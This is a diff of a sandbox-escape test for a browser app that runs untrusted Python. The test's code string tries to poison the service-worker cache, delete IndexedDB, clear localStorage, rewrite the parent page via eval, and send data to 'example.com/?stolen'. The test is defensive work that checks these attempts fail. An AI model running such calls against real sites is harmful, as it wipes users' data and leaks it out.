@@ -3,6 +3,7 @@ run, reaches none of the page's caches, storage or DOM, and plants nothing that 
 service worker serves from its caches only the build's own content; and every run ends cleanly, whatever the
 code does to its Python."""
 
+from harness.page_facts import STORE_NAME
 from tests.e2e.inputs import MIXED
 from tests.e2e.page import SLOW
 
@@ -26,22 +27,22 @@ def attempt(name, act):
         pass
 
 
-attempt("caches", lambda: js.caches.open("camel-cards-precache-v2").then(
+attempt("caches", lambda: js.caches.open("STORE-precache-v2").then(
     lambda cache: cache.put("index.html", js.Response.new(PLANT))))
-attempt("indexedDB", lambda: js.indexedDB.deleteDatabase("camel-cards"))
+attempt("indexedDB", lambda: js.indexedDB.deleteDatabase("STORE"))
 attempt("localStorage", lambda: js.localStorage.clear())
 attempt("document", lambda: js.document.body)
 attempt("eval", lambda: js.eval("parent.document.body.innerHTML = 'PLANTED'"))
 attempt("eval-top", lambda: js.eval("top.location = 'https://example.com/'"))
 attempt("serviceWorker", lambda: js.navigator.serviceWorker.register("sw.js"))
-script = "caches.open('camel-cards-precache-v2'); indexedDB.deleteDatabase('camel-cards'); fetch('https://example.com/')"
+script = "caches.open('STORE-precache-v2'); indexedDB.deleteDatabase('STORE'); fetch('https://example.com/')"
 js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([script]))))
 js.fetch("https://example.com/?stolen")
 js.fetch("/index.html", to_js({"method": "POST", "body": PLANT}))
 print("reached:", reached)
 print("Part 1:", %d)
 print("Part 2:", %d)
-"""
+""".replace("STORE", STORE_NAME)
 
 
 def planted(camel):
